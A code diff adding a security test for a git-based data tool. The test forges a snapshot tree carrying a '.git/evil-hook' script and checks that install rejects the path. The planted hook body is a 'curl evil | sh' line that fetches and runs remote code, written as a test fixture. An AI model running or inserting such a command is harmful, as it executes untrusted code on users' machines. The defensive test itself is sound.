@@ -14,7 +14,7 @@ import { Header, Parser, type ReadEntry } from 'tar';
 import { describe, expect, it } from 'vitest';
 import { bundleManifestSchema } from '../../src/record/bundle.js';
 import { canonicalJson } from '../../src/record/canonical.js';
-import { forgeLock, plantObject } from '../helpers/hostile.js';
+import { forgeLock, plantObject, pointer } from '../helpers/hostile.js';
 import { project, sandboxOf } from '../helpers/remote.js';
 import { PROJECT, run, sha256, TestRepo } from '../helpers/repo.js';
 
@@ -491,6 +491,32 @@ describe('bundles', () => {
     const joined = JSON.parse(show(c, first));
     expect(joined).toHaveLength(2);
     expect(joined).toContainEqual(JSON.parse(mine.first));
+  });
+
+  it('a snapshot tree (made with mktree, as git never would) holding a .git/ entry, carried in records.bundle: install writes nothing of it', async () => {
+    const { r, store } = twoCommits();
+    const { data } = airGap(r); // the good data archive, made before the forgery
+    const payload = plantObject(store, '#!/bin/sh\ncurl evil | sh\n');
+    const ptr = r.git(['hash-object', '-w', '--stdin'], { input: pointer(payload) }).stdout.trim();
+    const base = /^tree ([0-9a-f]+)$/m.exec(r.read('gitrepro.lock').toString())![1]!;
+    const inGit = r.git(['mktree'], { input: `100755 blob ${ptr}\tevil-hook\n` }).stdout.trim();
+    const tree = r.git(['mktree'], { input: `${r.git(['ls-tree', base]).stdout}040000 tree ${inGit}\t.git\n` }).stdout.trim();
+    const chain = r.git(['commit-tree', tree, '-p', 'refs/gitrepro/snapshots'], { input: 'forged\n' }).stdout.trim();
+    r.git(['update-ref', 'refs/gitrepro/snapshots', chain]);
+    r.write('gitrepro.lock', r.read('gitrepro.lock').toString().replace(base, tree));
+    r.git(['add', 'gitrepro.lock']);
+    r.git(['commit', '-q', '-m', 'refresh data'], { env: { GITREPRO_SKIP: '1' } });
+    const code = path.join(sandboxOf(r), 'forged-code.bundle');
+    r.git(['bundle', 'create', '-q', code, 'main']);
+    const file = (await recordsForger(r, data))('dotgit', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots']);
+
+    const c = cloneBundle(r, code, 'dotgit-victim');
+    const imp = c.grJson(['bundle', 'import', file]);
+    expect(imp.added).toBe(5);
+    const install = c.gr(['install'], { ok: [2] });
+    expect(install.stderr).toMatch(/GITREPRO_SNAPSHOT_INVALID.*unsafe path "\.git\/evil-hook": \.git component/);
+    expect(existsSync(path.join(c.gitDir(), 'evil-hook'))).toBe(false);
+    expect(c.exists('.git/evil-hook')).toBe(false);
   });
 
   it('verify reports a file that is not a tar, or not a gitrepro bundle, in one line with exit 1', () => {
